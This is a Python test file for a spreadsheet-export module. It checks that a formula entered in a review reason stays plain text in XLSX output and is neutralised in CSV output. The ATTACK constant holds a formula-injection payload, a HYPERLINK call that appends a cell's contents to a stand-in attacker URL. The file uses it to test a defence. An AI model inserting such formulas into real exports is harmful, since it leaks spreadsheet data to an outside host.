"""Text that a spreadsheet would run as a formula (a review reason "=HYPERLINK(…)") stays text in every export."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

from gongkai.batch import ingest
from gongkai.batch.executors import InlineExecutor
from gongkai.export import write_export
from gongkai.export.writers import neutral_text
from gongkai.store.repository import Repository
from gongkai.store.views import ReportFilter

from ..conftest import CORPUS, shared_or_skip

ATTACK = '=HYPERLINK("http://evil.example/"&A1,"点击")'


def _reviewed(repository: Repository) -> None:
    ingest([shared_or_skip(CORPUS / "seeds" / "000_6e817ece59bf6a07.txt")], repository, InlineExecutor())
    report = repository.list_reports(ReportFilter())[0]
    finding = repository.findings([report.id])[report.id][0]
    repository.set_review(report.id, finding.fingerprint, "dismissed", "@审核员", ATTACK)


def test_a_formula_in_a_review_reason_is_text_in_xlsx(repository: Repository, tmp_path: Path) -> None:
    _reviewed(repository)
    path = tmp_path / "out.xlsx"
    write_export(repository, "xlsx", "findings", ReportFilter(), path)
    workbook = openpyxl.load_workbook(path)
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
    assert any(isinstance(t, str) and ATTACK in t for t in texts)  # kept, as text


def test_a_formula_in_a_review_reason_is_neutralised_in_csv(repository: Repository, tmp_path: Path) -> None:
    _reviewed(repository)
    path = tmp_path / "out.csv"
    write_export(repository, "csv", "findings", ReportFilter(), path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    reasons = [r["审核理由"] for r in rows if r["审核理由"]]
    assert reasons == ["'" + ATTACK]
    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())


def test_neutral_text_leaves_ordinary_text_alone() -> None:
    assert neutral_text("依申请公开") == "依申请公开"
    assert neutral_text("-1") == "'-1"  # in a text column it is text; numbers are written as numbers
    assert neutral_text("@SUM(A1)") == "'@SUM(A1)"
